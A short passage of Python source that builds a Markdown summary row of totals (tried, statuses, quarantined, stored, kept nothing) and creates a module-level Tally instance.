        statuses = ", ".join(f"{s} × {n}" for s, n in sorted(total.statuses.items()))
        lines.append(
            f"| **all** | {total.tried} ({total.route}) | {statuses} | {total.quarantined} | {total.stored} "
            f"| {total.kept_nothing} |"
        )
        return "\n".join(lines)


TALLY = Tally()
